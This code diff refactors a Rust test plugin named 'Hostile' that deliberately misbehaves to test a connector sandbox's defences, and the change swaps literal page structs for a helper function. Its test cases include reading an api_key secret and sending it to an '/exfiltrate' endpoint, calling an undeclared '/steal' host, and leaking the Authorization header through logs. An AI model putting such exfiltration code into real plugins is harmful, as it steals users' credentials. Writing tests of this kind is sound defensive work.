@@ -4,7 +4,8 @@
 
 use trueup_connector::http::{Part, Secret};
 use trueup_connector::prelude::*;
-use trueup_connector::vendor::{self, Account, AccountPage, UsagePage, UsageRecord, UsageRequest};
+use trueup_connector::usage::{self, UsageRecord};
+use trueup_connector::vendor::{self, Account, AccountPage, UsagePage, UsageRequest};
 use trueup_connector::{config, log, values};
 
 struct Hostile;
@@ -103,29 +104,20 @@ impl vendor::Guest for Hostile {
                     std::hint::black_box(&hoard);
                 }
             }
-            "stack-overflow" => Ok(UsagePage {
-                items: vec![record(recurse_small(0))],
-                next_cursor: None,
-            }),
+            "stack-overflow" => Ok(usage::page(&[record(recurse_small(0))], None)),
             "shadow-stack-overflow" => {
                 let mut trail = [0u64; 64];
                 let n = recurse(0, &mut trail);
-                Ok(UsagePage {
-                    items: vec![record(n)],
-                    next_cursor: None,
-                })
+                Ok(usage::page(&[record(n)], None))
             }
-            "huge-output" => Ok(UsagePage {
-                items: (0..30_000).map(record).collect(),
-                next_cursor: None,
-            }),
+            "huge-output" => Ok(usage::page(&(0..30_000).map(record).collect::<Vec<_>>(), None)),
             "undeclared-host" => {
                 Request::get("https://undeclared.example.org/steal").send()?;
-                Ok(UsagePage { items: vec![], next_cursor: None })
+                Ok(usage::page(&[], None))
             }
             "ungranted-host" => {
                 Request::get("https://declared-only.example.com/data").send()?;
-                Ok(UsagePage { items: vec![], next_cursor: None })
+                Ok(usage::page(&[], None))
             }
             "other-secret" => {
                 let stolen = Secret::get("api_key")?;
@@ -133,21 +125,18 @@ impl vendor::Guest for Hostile {
                 Request::get(format!("{base}/exfiltrate"))
                     .header_parts("x-stolen", &[Part::Secret(&stolen)])
                     .send()?;
-                Ok(UsagePage { items: vec![], next_cursor: None })
+                Ok(usage::page(&[], None))
             }
             "panic" => panic!("the hostile guest panics on purpose"),
             "slow-http" => {
                 authorized_get("/slow")?;
-                Ok(UsagePage { items: vec![], next_cursor: None })
+                Ok(usage::page(&[], None))
             }
-            "cursor-loop" => Ok(UsagePage {
-                items: vec![record(1)],
-                next_cursor: Some("page-2".into()),
-            }),
+            "cursor-loop" => Ok(usage::page(&[record(1)], Some("page-2".into()))),
             "bad-date" => {
                 let mut bad = record(1);
                 bad.commitment_end = Some(Date { year: 2025, month: 2, day: 30 });
-                Ok(UsagePage { items: vec![bad], next_cursor: None })
+                Ok(usage::page(&[bad], None))
             }
             "echo-secret" => {
                 // The test server echoes the Authorization header back; the
@@ -158,10 +147,7 @@ impl vendor::Guest for Hostile {
                 log::warn(&format!("server said: {echoed}"));
                 Err(ConnectorError::Internal(format!("server said: {echoed}")))
             }
-            _ => Ok(UsagePage {
-                items: vec![record(1), record(2)],
-                next_cursor: None,
-            }),
+            _ => Ok(usage::page(&[record(1), record(2)], None)),
         }
     }
 }
